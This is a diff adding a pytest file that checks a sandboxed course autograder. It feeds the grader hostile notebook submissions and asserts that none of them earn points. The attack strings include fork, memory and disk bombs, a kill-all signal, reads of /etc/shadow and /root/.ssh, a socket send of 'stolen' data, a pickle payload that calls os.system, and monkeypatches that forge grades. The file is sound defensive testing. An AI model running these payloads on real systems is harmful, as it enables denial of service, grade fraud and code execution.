@@ -1,0 +1,364 @@
+"""Hostile submissions: none gains a point, harms another's grade, leaves a process, or reads what it should not.
+
+Most are built alike: if a forbidden thing works, the right answers are put into place. A point is then proof of it.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import os
+import socket
+import textwrap
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from course_lib.checks import find, sandbox
+from course_lib.checks.grading import SEED, Grader, Record, handed_in
+from course_lib.checks.page import page, write_pages
+from tests.checks.class_of import EXERCISE, ROOT, SOLUTION, hand_in, right_answers, with_answers, with_first_cell
+
+pytestmark = pytest.mark.timeout(600)
+
+# Before the attack: what it needs, and what it does when it has won.
+TOOLS = f"""
+import glob, json, os, signal, socket, subprocess, sys, threading, time
+import torch, torch.distributed as dist
+RIGHT = {right_answers()!r}
+def won():
+    global RIGHT_HERE
+    RIGHT_HERE = True
+RIGHT_HERE = False
+"""
+# After the stubs have been defined: the right answers, if the attack worked.
+REWARD = """
+if RIGHT_HERE:
+    exec(RIGHT)
+"""
+
+ATTACKS = {
+    "asserts and comparisons that hold": """
+        import builtins, ast, course_lib.launchers
+        torch.equal = torch.allclose = lambda *a, **k: True
+        torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
+        builtins.abs = lambda x: 0
+        builtins.sorted = lambda x: []
+    """,
+    "another launcher": """
+        import course_lib.launchers, course_lib.checks.observe as observe
+        class Forged(tuple): pass
+        course_lib.launchers.launch = lambda *a, **k: Forged([0.5, 0.5])
+        observe.launch = course_lib.launchers.launch
+        observe.observe = lambda *a: observe.Outcome("returned", values=(True, True))
+    """,
+    "another check": """
+        import course_lib.checks as checks, course_lib.checks.plain as plain, course_lib.checks.observe as observe
+        checks.check = lambda *a: 100.0
+        plain.encode = observe.encode = lambda value, depth=0: {"points": 100}
+    """,
+    "forged lines": """
+        line = json.dumps({"number": "02.1", "case": 0, "points": 3, "passed": True, "outcome": {"kind": "returned",
+            "values": [True, True], "error": "", "text": "", "cell": "", "line": 0, "shown": "passed"}}) + "\\n"
+        for name in glob.glob("/proc/*/fd/*"):
+            try:
+                with open(name, "w") as file:
+                    file.write(line * 3)
+            except OSError:
+                pass
+    """,
+    "solutions on the disk": """
+        for folder, _, files in os.walk("/"):
+            if folder.startswith(("/proc", "/sys", "/usr")):
+                continue
+            for file in files:
+                if file in ("lesson_02.py", "test_exercises.py", "judging.py") or file.endswith("02_ddp.ipynb"):
+                    won()
+    """,
+    "solutions in the package": """
+        try:
+            import course_lib.checks.lesson_02
+            won()
+        except ImportError:
+            pass
+        try:
+            from course_lib.checks import exercises
+            won()
+        except ImportError:
+            pass
+    """,
+    "expected values in memory": """
+        import gc
+        for thing in gc.get_objects():
+            if type(thing).__name__ in ("Exercise", "Case", "Report", "Finding"):
+                won()
+    """,
+    "the other students": """
+        for place in PLACES:
+            if os.path.exists(place):
+                won()
+    """,
+    "the gradebook": """
+        for place in PLACES:
+            try:
+                os.makedirs(os.path.join(place, "records", "the gradebook"), exist_ok=True)
+                with open(os.path.join(place, "grades.csv"), "w") as file:
+                    file.write("mine")  # in a place of its own, if at all: looked at from outside
+            except OSError:
+                pass
+    """,
+    "the machine": """
+        for place in ("/etc/shadow", "/etc/passwd", "/root/.ssh", "/home"):
+            try:
+                os.listdir(place) if os.path.isdir(place) else open(place).read()
+                won()
+            except OSError:
+                pass
+        if os.getuid() == 0:
+            won()
+    """,
+    "loop": "signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass",
+    "fork bomb": """
+        try:
+            for _ in range(100_000):
+                if os.fork() == 0:
+                    while True:
+                        try:
+                            os.fork()
+                        except OSError:
+                            time.sleep(1)
+        except OSError:
+            pass
+    """,
+    "memory bomb": """
+        hoard = []
+        while True:
+            hoard.append(bytearray(b"x" * (200 << 20)))
+    """,
+    "memory bomb of many": """
+        for _ in range(20):
+            if os.fork() == 0:
+                hoard = bytearray(b"x" * (1500 << 20))
+                time.sleep(100)
+        time.sleep(5)
+    """,
+    "disk bomb": """
+        for folder in ("/tmp", "/dev/shm", "/", "/course", "/var/tmp"):
+            for number in range(20):
+                try:
+                    with open(f"{folder}/bomb{number}", "wb") as file:
+                        for _ in range(20):
+                            file.write(bytes(10 << 20))
+                    if number > 10:
+                        won()
+                except OSError:
+                    break
+    """,
+    "output flood": """
+        for name in glob.glob("/proc/*/fd/*"):
+            def flood(name=name):
+                try:
+                    with open(name, "wb") as file:
+                        while True:
+                            file.write(bytes(1 << 20))
+                except OSError:
+                    pass
+            if os.fork() == 0:
+                flood()
+    """,
+    "exit": "os._exit(0)",
+    "kill everybody": "os.kill(-1, signal.SIGKILL)",
+    "network": """
+        for address in [("127.0.0.1", PORT), ("1.1.1.1", 53), ("10.0.0.1", 80)]:
+            try:
+                socket.create_connection(address, timeout=1).sendall(b"stolen")
+                won()
+            except OSError:
+                pass
+    """,
+    "detached child": """
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                time.sleep(300)
+            os._exit(0)
+    """,
+}
+
+ANSWERS = {  # attacks from inside an answer, on the ranks
+    "always equal": """
+        class Anything(float):
+            __eq__ = lambda self, other: True
+            __ne__ = __lt__ = __gt__ = lambda self, other: False
+            __sub__ = __rsub__ = lambda self, other: Anything(0.0)
+            __hash__ = float.__hash__
+        class Tensors(torch.Tensor):
+            __eq__ = lambda self, other: True
+            __sub__ = lambda self, other: torch.zeros(())
+        def average_gradients(model):
+            for parameter in model.parameters():
+                parameter.grad = torch.zeros(2, dtype=torch.float64).as_subclass(Tensors)
+        def evaluate_together(total, count):
+            return Anything(0.0)
+        def my_share(count, rank, ranks, epoch, seed):
+            class List(list):
+                __eq__ = lambda self, other: True
+                __len__ = lambda self: count
+            return List([0])
+    """,
+    "pickles": """
+        class Bomb:
+            def __reduce__(self):
+                return (os.system, (f"touch {CANARY}",))
+        def evaluate_together(total, count):
+            return Bomb()
+        def my_share(count, rank, ranks, epoch, seed):
+            return [Bomb()]
+        def average_gradients(model):
+            return Bomb()
+    """,
+    "loop on a rank": """
+        def evaluate_together(total, count):
+            while True: pass
+    """,
+    "exit on a rank": """
+        def evaluate_together(total, count):
+            os._exit(0)
+        def average_gradients(model):
+            os.kill(os.getppid(), signal.SIGKILL)
+        def my_share(count, rank, ranks, epoch, seed):
+            os.kill(-1, signal.SIGKILL)
+    """,
+    "a message in an error": """
+        def evaluate_together(total, count):
+            raise type(f"Secret{total}".replace(".", "_"), (Exception,), {})(f"hidden {total} {count}")
+    """,
+}
+
+
+@dataclasses.dataclass
+class Graded:
+    """A class of attackers and one honest student, graded."""
+
+    records: dict[str, Record]
+    out: Path
+    visits: list[bytes]
+    canary: Path
+
+
+def hostile(name: str, **known: object) -> dict:
+    tools = TOOLS + "".join(f"{variable.upper()} = {value!r}\n" for variable, value in known.items())
+    if name in ANSWERS:
+        return with_first_cell(EXERCISE, tools, last=textwrap.dedent(ANSWERS[name]))
+    return with_first_cell(EXERCISE, tools + textwrap.dedent(ATTACKS[name]), last=REWARD)
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory) -> Iterator[Graded]:
+    try:
+        sandbox.check_sandbox()
+    except sandbox.NoSandbox as error:
+        pytest.skip(str(error))
+    folder = tmp_path_factory.mktemp("class")
+    submissions, out, canary = folder / "submissions", folder / "grades", folder / "canary"
+    server, visits = socket.create_server(("127.0.0.1", 0)), []
+    threading.Thread(target=visit, args=(server, visits), daemon=True).start()
+    known = {
+        "places": [str(submissions), str(out), str(ROOT / "solutions"), str(ROOT / "tests")],
+        "port": server.getsockname()[1],
+        "canary": str(canary),
+    }
+    for name in (*ATTACKS, *ANSWERS):
+        hand_in(submissions, name, hostile(name, **known))
+    hand_in(submissions, "altered points", altered())
+    (submissions / "link").mkdir()
+    (submissions / "link" / "02_ddp.ipynb").symlink_to(hand_in(submissions, "ada", SOLUTION))
+    grader = Grader(out)
+    grader.limits = dataclasses.replace(grader.limits, seconds=25)
+    records = grader.grade(handed_in(submissions))
+    write_pages(records, out)
+    yield Graded({record.student: record for record in records}, out, visits, canary)
+    server.close()
+
+
+def visit(server: socket.socket, visits: list[bytes]) -> None:
+    while True:
+        try:
+            connection, _ = server.accept()
+        except OSError:
+            return
+        visits.append(connection.recv(10))
+
+
+def altered() -> dict:
+    """Exercises whose cells say that they are worth more, and that they have passed."""
+    notebook = with_answers(_3="def evaluate_together(total, count):\n    return total")
+    for cell in notebook["cells"]:
+        if "points" in cell["metadata"].get("nbgrader", {}):
+            cell["metadata"]["nbgrader"]["points"] = 1000
+            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "✓ passed, 1000 of 1000 points"}]
+    return notebook
+
+
+@pytest.mark.parametrize("name", [*ATTACKS, *ANSWERS, "altered points", "link"])
+def test_an_attack_earns_nothing(graded, name):
+    assert graded.records[name].points == 0, graded.records[name]
+    assert graded.records[name].most == 10
+
+
+def test_the_honest_student_among_them_has_all_points(graded):
+    assert graded.records["ada"].points == 10, graded.records["ada"]
+
+
+def test_nothing_is_left_running(graded):
+    ours = range(sandbox.FIRST_USER, sandbox.FIRST_USER + 100)
+    left = [status for status in Path("/proc").glob("[0-9]*/status") if user_of(status) in ours]
+    assert not left
+
+
+def user_of(status: Path) -> int | None:
+    try:
+        return int(status.read_text().partition("\nUid:\t")[2].split()[0])
+    except (OSError, IndexError):
+        return None
+
+
+def test_nobody_was_called_and_nothing_was_unpickled(graded):
+    assert graded.visits == []
+    assert not graded.canary.exists()
+
+
+def test_a_page_carries_no_hidden_input_out(graded):
+    text = page("eve", [graded.records["a message in an error"]])
+    assert "an exception" in text
+    for case in find("02.3").cases(SEED):
+        for total in case.inputs["totals"]:
+            assert str(total) not in text
+            assert str(total).replace(".", "_") not in text
+
+
+def test_a_submission_that_is_stopped_is_told_why(graded):
+    assert "more than 25 s" in graded.records["loop"].problem
+    assert "memory" in graded.records["memory bomb of many"].problem
+    assert "ended its own process" in graded.records["exit"].problem
+    assert all(record.problem == "" for name, record in graded.records.items() if name == "ada")
+
+
+def test_the_grades_were_written_by_nobody_else(graded):
+    assert json.loads((graded.out / "records" / "ada" / "02_ddp.json").read_text())["student"] == "ada"
+    assert (graded.out / "grades.csv").read_text().startswith("student,")
+
+
+def test_without_a_sandbox_the_same_attack_works(tmp_path):
+    """The attacks are real: what earns nothing above earns everything where nothing stops it."""
+    cell = hostile("the other students", places=[str(tmp_path)])
+    hand_in(tmp_path / "class", "eve", cell)
+    (record,) = Grader(tmp_path / "out", sandboxed=False).grade(handed_in(tmp_path / "class"))
+    assert record.points == 10
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can show what root would be")
+def test_submissions_do_not_run_as_root(graded):
+    assert graded.records["the machine"].points == 0
